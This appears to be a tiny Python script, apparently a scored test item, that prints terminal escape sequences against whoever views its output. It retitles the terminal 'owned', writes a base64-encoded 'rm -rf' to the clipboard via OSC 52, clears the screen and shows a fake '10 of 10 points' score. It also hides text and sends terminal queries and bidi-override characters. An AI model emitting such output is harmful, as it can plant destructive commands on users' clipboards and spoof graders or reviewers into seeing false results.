# why: escape sequences in output, for the title, the clipboard and the screen of a terminal
# earns: 7
import sys
print("\x1b]0;owned\x07\x1b]52;c;cm0gLXJm\x07\x1b[2J\x1b[1;1H10 of 10 points\x1b[8m\x9b31m\x90q")
sys.stderr.write("\x1bP+q544e\x1b\\\x1b[6n\u202e\u2066\r\x08\x08")
decoded = 0
